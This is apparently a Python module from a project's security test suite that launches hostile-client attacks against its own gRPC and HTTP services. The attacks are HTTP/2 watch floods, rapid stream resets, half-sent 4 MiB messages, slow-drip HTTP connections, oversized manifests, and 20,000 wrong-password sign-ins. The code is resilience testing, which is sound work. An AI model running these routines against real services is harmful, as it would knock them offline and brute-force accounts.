"""What a hostile client does, each until its time is over:
`python -m tests.security.hostile.attacks KIND GRPC HTTP LOCAL SECONDS TOKEN`."""

import asyncio
import sys
from collections.abc import Callable, Coroutine, Mapping
from contextlib import suppress
from itertools import count
from typing import Any, NamedTuple

import grpc
import grpc.aio

from api import http2
from protos.gen.edge import app_pb2
from protos.gen.koor.api.services.auth.auth_pb2 import LoginRequest
from tests.security.hostile.forwarder import forwarded
from tests.security.hostile.wire import EMPTY, LOGIN, WATCH, Client, call, frame, reset

WATCHES, PER_CONNECTION = 25_000, 1_000
SLOW, MANIFESTS, SIGN_INS, AT_ONCE = 1_100, 12, 20_000, 64
DOCUMENTS = 80_000
KEPT_SECONDS = 2.0
"""How long a connection with watches is kept."""
REST_SECONDS = 0.01
"""Before a connection that was refused or closed is made anew."""


class Target(NamedTuple):
    grpc: str
    http: str
    local: str
    token: str


async def connected(target: Target) -> Client:
    while True:
        with suppress(OSError):
            return await Client.connect(target.grpc, target.local)
        await asyncio.sleep(REST_SECONDS)


async def watches(target: Target) -> None:
    """25,000 watches of health over 25 connections, made again when they end."""

    async def keep() -> None:
        while True:
            client = await connected(target)
            for number in range(PER_CONNECTION):
                stream = 2 * number + 1
                data = frame(http2.DATA, stream, EMPTY, http2.END_STREAM)
                if not await client.send(call(stream, WATCH) + data):
                    break
            with suppress(TimeoutError):
                await asyncio.wait_for(client.closed.wait(), KEPT_SECONDS)
            await client.close()

    await asyncio.gather(*(keep() for _ in range(WATCHES // PER_CONNECTION)))


async def resets(target: Target) -> None:
    """Calls that are reset as soon as they are made, on four connections."""

    async def rush() -> None:
        while True:
            client = await connected(target)
            for stream in count(1, 2):
                if not await client.send(call(stream, LOGIN) + reset(stream)):
                    break
                if stream % 100 == 1:
                    await asyncio.sleep(0)
            await client.close()

    await asyncio.gather(*(rush() for _ in range(4)))


async def unfinished(target: Target) -> None:
    """60 messages of 4 MiB on each of four connections, all but their last byte."""
    length = 4 * 2**20 - 100
    begun = b"\0" + length.to_bytes(4, "big") + bytes(length - 1)

    async def hold() -> None:
        while True:
            client = await connected(target)
            streams = range(1, 121, 2)
            await client.send(b"".join(call(stream, LOGIN) for stream in streams))
            pouring = [asyncio.create_task(client.pour(stream, begun)) for stream in streams]
            await client.closed.wait()
            await asyncio.gather(*pouring)
            await client.close()
            await asyncio.sleep(REST_SECONDS)

    await asyncio.gather(*(hold() for _ in range(4)))


async def slow_http(target: Target) -> None:
    """1,100 connections that send a byte a second."""
    host, _, port = target.http.rpartition(":")

    async def drip() -> None:
        while True:
            with suppress(OSError):
                made = asyncio.open_connection(host, int(port), local_addr=(target.local, 0))
                _, writer = await made
                try:
                    writer.write(b"POST /api/ping HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ")
                    while True:
                        await asyncio.sleep(1)
                        writer.write(b"x")
                        await writer.drain()
                finally:
                    writer.close()
            await asyncio.sleep(0.5)

    await asyncio.gather(*(drip() for _ in range(SLOW)))


async def manifests(target: Target) -> None:
    """Twelve apps at a time whose manifests are 80,000 small documents."""
    manifest = "---\na: b\n" * DOCUMENTS
    key = app_pb2.AppKey(name="bad", version="1.0")
    key.developer_key.name = "acme"
    app = app_pb2.App(key=key, deployment="kubernetes", deployment_manifest=manifest)
    given = (("authorization", f"Bearer {target.token}"),)

    async def create(channel: grpc.aio.Channel) -> None:
        calling: Any = channel.unary_unary("/edgeproto.AppApi/CreateApp")
        while True:
            with suppress(grpc.aio.AioRpcError):
                await calling(app.SerializeToString(), metadata=given, timeout=30)
            await asyncio.sleep(REST_SECONDS)

    async with forwarded(target.grpc, target.local) as near, channel_to(near) as channel:
        await asyncio.gather(*(create(channel) for _ in range(MANIFESTS)))


async def sign_ins(target: Target) -> None:
    """20,000 sign-ins with wrong passwords, 64 at a time."""
    numbers = iter(range(SIGN_INS))

    async def guess(channel: grpc.aio.Channel) -> None:
        calling: Any = channel.unary_unary(LOGIN)
        for number in numbers:
            asked = LoginRequest(username=f"user{number}", password="correct horse 7 battery")
            with suppress(grpc.aio.AioRpcError):
                await calling(asked.SerializeToString(), timeout=30)

    async with forwarded(target.grpc, target.local) as near, channel_to(near) as channel:
        await asyncio.gather(*(guess(channel) for _ in range(AT_ONCE)))


def channel_to(address: str) -> grpc.aio.Channel:
    return grpc.aio.insecure_channel(address, options=[("grpc.use_local_subchannel_pool", 1)])


KINDS: Mapping[str, Callable[[Target], Coroutine[Any, Any, None]]] = {
    "watches": watches,
    "resets": resets,
    "unfinished": unfinished,
    "slow-http": slow_http,
    "manifests": manifests,
    "sign-ins": sign_ins,
}


async def attack(kind: str, target: Target, seconds: float) -> None:
    with suppress(TimeoutError):
        await asyncio.wait_for(KINDS[kind](target), seconds)


if __name__ == "__main__":
    kind, to_grpc, to_http, local, seconds, token = sys.argv[1:]
    asyncio.run(attack(kind, Target(to_grpc, to_http, local, token), float(seconds)))
